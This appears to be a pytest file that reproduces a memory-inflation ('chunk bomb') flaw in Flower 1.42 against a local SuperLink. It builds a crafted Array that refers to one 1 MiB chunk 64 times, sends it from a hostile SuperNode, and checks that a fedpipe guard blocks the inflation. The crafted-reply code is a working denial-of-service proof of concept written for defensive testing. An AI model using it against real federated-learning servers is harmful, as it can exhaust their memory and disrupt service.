"""Flower 1.42: a SuperNode's reply can inflate far beyond what it pushed (live SuperLink).

A Flower `Array` is sent as a small JSON body plus `ArrayChunk` children, and the body's
`arraychunk_ids` may list a chunk any number of times (Flower uses this to send repeated
chunks once). Nothing on the receiving side bounds that list or checks it against the
Array's shape/dtype, so one chunk referenced N times inflates to N x its size.

The test runs a real `flower-superlink` (insecure, 127.0.0.1, free port, SQLite state in
a temp dir) that starts a real `flwr-serverapp` for a tiny app written here; the test
process itself plays a hostile SuperNode through Flower's own Fleet HTTP connection
(`flwr.supernode.fleet_http_connection.http_request_response`) and replies with a
crafted Array. The SuperLink stores it; the ServerApp's grid pulls and inflates it.
"""

from __future__ import annotations

import json
import subprocess
import textwrap
import time
from pathlib import Path

import pytest
import tomli_w
from flwr.app import Array, ArrayRecord, Message, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.app.message.arraychunk import ArrayChunk
from flwr.common.serde import message_to_proto
from flwr.proto.message_pb2 import ObjectTree
from flwr.supercore.inflatable.inflatable_object import (
    get_all_nested_objects,
    get_object_tree,
    iterate_object_tree,
)
from flwr.supercore.inflatable.inflatable_utils import pull_objects
from flwr.supernode.fleet_http_connection import http_request_response

from fedpipe.deploy.processes import Child, flower_env, free_port, wait_for_port

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("no_leftover_processes")]

CHUNK_BYTES = 1024 * 1024  # 1 MiB pushed ...
REPEATS = 64  # ... 64 MiB inflated in the ServerApp

SERVER_APP = '''
"""Sends one instruction to the only node and records what the grid inflates."""

import json
import resource
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

server_app = ServerApp()
client_app = ClientApp()


@server_app.main()
def main(grid: Grid, context: Context) -> None:
    if context.run_config.get("guard"):  # fedpipe's bound, as its ServerApp installs it
        from fedpipe.boundary import limit_array_inflation

        limit_array_inflation(4 * 2**20)
    nodes: list[int] = []
    deadline = time.time() + 30
    while not nodes and time.time() < deadline:
        nodes = list(grid.get_node_ids())
        time.sleep(0.1)
    msg = Message(RecordDict({"c": ConfigRecord({"x": 1})}), dst_node_id=nodes[0],
                  message_type="train")
    rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    replies = list(grid.send_and_receive([msg], timeout=60))
    rss1 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    out: dict[str, object] = {"replies": len(replies), "maxrss_kib": [rss0, rss1]}
    if replies and replies[0].has_content():
        arr = replies[0].content["arrays"]["w"]
        out.update(
            data_len=len(arr.data), shape=list(arr.shape), dtype=arr.dtype, stype=arr.stype
        )
    elif replies:
        out["error"] = str(replies[0].error)
    Path(str(context.run_config["out"])).write_text(json.dumps(out))
'''


def _crafted_array(chunk_bytes: int, repeats: int) -> Array:
    """An Array that deflates to one `chunk_bytes` ArrayChunk referenced `repeats` times.

    `Array.deflate()` reads the chunk list that `Array.slice_array()` caches in
    `__dict__["_chunks"]`; the cache is set to the same chunk `repeats` times, exactly
    what Flower itself produces for an all-zero array of `chunk_bytes * repeats` bytes.
    The claimed shape/dtype (one float32, 4 bytes) deliberately disagree with that.
    """
    zeros = b"\x00" * chunk_bytes
    chunk = ArrayChunk(memoryview(zeros))
    arr = Array(dtype="float32", shape=(1,), stype="numpy.ndarray", data=zeros)
    arr.__dict__["_chunks"] = [(chunk.object_id, chunk)] * repeats
    return arr


def crafted_chunk_bomb_contents(chunk_bytes: int, repeats: int) -> tuple[str, dict[str, bytes]]:
    """(Array object id, {object id: deflated content}), all from Flower's deflate()."""
    arr = _crafted_array(chunk_bytes, repeats)
    objects = get_all_nested_objects(arr)
    return arr.object_id, {oid: obj.deflate() for oid, obj in objects.items()}


def _crafted_reply(reply_to: Message, chunk_bytes: int, repeats: int) -> Message:
    record = ArrayRecord()  # ArrayRecord({...}) would copy the Array and drop the cache
    record["w"] = _crafted_array(chunk_bytes, repeats)
    reply = Message(RecordDict({"arrays": record}), reply_to=reply_to)
    reply.metadata.__dict__["_message_id"] = reply.object_id  # as the SuperNode does
    return reply


def _write_app(root: Path) -> Path:
    app = root / "app"
    (app / "bombprobe").mkdir(parents=True)
    (app / "bombprobe" / "__init__.py").write_text("")
    (app / "bombprobe" / "apps.py").write_text(textwrap.dedent(SERVER_APP))
    components = {
        "serverapp": "bombprobe.apps:server_app",
        "clientapp": "bombprobe.apps:client_app",
    }
    project = {
        "build-system": {"requires": ["hatchling"], "build-backend": "hatchling.build"},
        "project": {"name": "bombprobe", "version": "1.0.0", "license": "Apache-2.0"},
        "tool": {
            "flwr": {
                "app": {
                    "publisher": "probe",
                    "components": components,
                    "config": {"out": "", "guard": False},
                }
            }
        },
    }
    (app / "pyproject.toml").write_text(tomli_w.dumps(project))
    return app


def _hostile_reply(address: str, chunk_bytes: int, repeats: int, until: Path) -> dict[str, bytes]:
    """Act as a SuperNode: take one instruction, answer it with the crafted Array.

    Stays connected until `until` exists (a node that leaves before the ServerApp pulls
    has its reply replaced by a "Node Unavailable" error). Returns the object contents
    actually pushed to the SuperLink (PushObject).
    """
    with http_request_response(address, insecure=True) as conn:
        _node_id, receive, send, _run, _fab, pull_object, push_object, confirm = conn
        deadline = time.monotonic() + 60
        while (received := receive()) is None:
            assert time.monotonic() < deadline, "no instruction from the ServerApp"
            time.sleep(0.1)
        instruction, tree = received
        run_id = instruction.metadata.run_id
        ids = [t.object_id for t in iterate_object_tree(tree)]
        pull_objects(ids, pull_object_fn=lambda oid: pull_object(run_id, oid))
        confirm(run_id, instruction.metadata.message_id)

        reply = _crafted_reply(instruction, chunk_bytes, repeats)
        contents = {oid: obj.deflate() for oid, obj in get_all_nested_objects(reply).items()}
        reply_tree: ObjectTree = get_object_tree(reply)
        to_push, session_id = send(reply, reply_tree, 0.0)
        pushed = {oid: contents[oid] for oid in to_push}
        for oid, content in pushed.items():
            push_object(run_id, session_id, oid, content)
        # PushMessages itself carries the metadata and tree only (no content).
        assert message_to_proto(remove_content_from_message(reply)).ByteSize() < 1024
        assert reply_tree.ByteSize() < 1024
        deadline = time.monotonic() + 60
        while not until.exists():
            assert time.monotonic() < deadline, "the ServerApp never wrote its result"
            time.sleep(0.1)
        return pushed


@pytest.mark.parametrize("guard", [False, True], ids=["flower-as-is", "fedpipe-guard"])
def test_superlink_passes_chunk_bomb_reply_to_serverapp(tmp_path: Path, guard: bool) -> None:
    """Flower as is inflates the reply in the ServerApp; with fedpipe's bound installed the
    Array arrives empty, marked with the size it would have had, and nothing is allocated."""
    array_id, array_contents = crafted_chunk_bomb_contents(CHUNK_BYTES, REPEATS)
    assert sum(map(len, array_contents.values())) < CHUNK_BYTES + 1024

    app = _write_app(tmp_path)
    home = tmp_path / "flwr-home"
    home.mkdir()
    port = free_port()
    connection = {"address": f"127.0.0.1:{port}", "insecure": True}
    (home / "config.toml").write_text(
        tomli_w.dumps({"superlink": {"default": "probe", "probe": connection}})
    )
    env = flower_env(home)
    link = Child(
        "flower-superlink",
        [
            "flower-superlink",
            "--insecure",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--isolation",
            "subprocess",
            "--disable-runtime-dependency-installation",
            "--database",
            str(tmp_path / "state.db"),
        ],
        env,
        tmp_path / "superlink.log",
    )
    out = tmp_path / "serverapp.json"
    try:
        wait_for_port("127.0.0.1", port, 60, link)
        submit = subprocess.Popen(
            [
                *("flwr", "run", str(app), "probe", "--format", "json"),
                *("--run-config", f'out="{out}" guard={str(guard).lower()}'),
            ],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        pushed = _hostile_reply(f"127.0.0.1:{port}", CHUNK_BYTES, REPEATS, until=out)
        submit.communicate(timeout=60)
        time.sleep(0.2)  # the ServerApp writes the file in one call; let it finish
        result = json.loads(out.read_text())
    finally:
        link.stop(10)

    # What crossed the Fleet API: the crafted Array exactly as the helper builds it,
    # one chunk, and three small bodies (Message, RecordDict, ArrayRecord).
    assert pushed[array_id] == array_contents[array_id]
    assert len(pushed) == 5
    pushed_bytes = sum(map(len, pushed.values()))
    assert CHUNK_BYTES < pushed_bytes < CHUNK_BYTES + 4096

    assert result["replies"] == 1
    rss0, rss1 = result["maxrss_kib"]
    if guard:  # emptied before allocation; the boundary then rejects it with the size
        assert result["data_len"] == 0
        assert result["stype"] == f"fedpipe-oversized:{CHUNK_BYTES * REPEATS}"
        assert (rss1 - rss0) * 1024 < CHUNK_BYTES * REPEATS // 4
        return
    # What the ServerApp's grid materialised: REPEATS times the chunk, for a claimed
    # shape of one float32.
    assert result["data_len"] == CHUNK_BYTES * REPEATS
    assert result["shape"] == [1] and result["dtype"] == "float32"
    assert (rss1 - rss0) * 1024 >= CHUNK_BYTES * REPEATS  # peak grew by the inflated size
